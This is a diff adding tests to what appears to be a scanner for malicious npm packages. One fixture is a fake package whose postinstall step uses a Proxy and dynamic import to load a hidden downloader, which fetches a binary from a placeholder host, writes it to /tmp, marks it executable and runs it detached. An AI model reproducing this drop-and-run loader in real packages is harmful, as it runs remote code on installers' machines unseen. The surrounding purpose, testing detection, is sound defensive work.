@@ -440,3 +440,39 @@ module.exports = { Helper };`,
     expect(threats(r).filter((f) => f.confidence >= 0.5)).toEqual([]);
   });
 });
+
+describe('a file of its own folder picked at run time by an install step', () => {
+  const pkgWith = (platformCode: string) =>
+    analyzeSource({
+      'package.json': JSON.stringify({
+        name: 'glyph-tools',
+        version: '1.0.0',
+        scripts: { postinstall: 'node lib/setup.js' },
+      }),
+      'lib/setup.js': `const path = require('path');
+const { pathToFileURL } = require('url');
+const steps = new Proxy({}, { get: (_, os) => async (...a) => (await import(pathToFileURL(path.join(__dirname, 'steps', os + '.mjs')).href)).default(...a) });
+steps[process.platform]('https://cdn.glyph-assets.example/hb/1.0.0/hb').catch(() => {});`,
+      'lib/steps/linux.mjs': platformCode,
+      'lib/steps/darwin.mjs': `export { default } from './linux.mjs';`,
+    });
+  it('the downloader it loads (chosen by the platform, through a Proxy and import()) runs at install', () => {
+    const r = pkgWith(`import { writeFile, chmod } from 'node:fs/promises';
+import { spawn } from 'node:child_process';
+export default async function (src) {
+  const res = await fetch(src);
+  await writeFile('/tmp/.hb', Buffer.from(await res.arrayBuffer()));
+  await chmod('/tmp/.hb', 0o755);
+  spawn('/tmp/.hb', ['--daemon'], { detached: true, stdio: 'ignore' }).unref();
+}`);
+    expect(threats(r).find((f) => f.rule === 'js.drop-and-run')).toMatchObject({
+      threat_type: 'install_script_injection',
+    });
+  });
+  it('quiet: the same loader picking a step that only prints', () => {
+    const r = pkgWith(
+      `export default async function (src) { console.log('prebuilt binaries are at', src); }`,
+    );
+    expect(threats(r).filter((f) => f.confidence >= 0.5)).toEqual([]);
+  });
+});
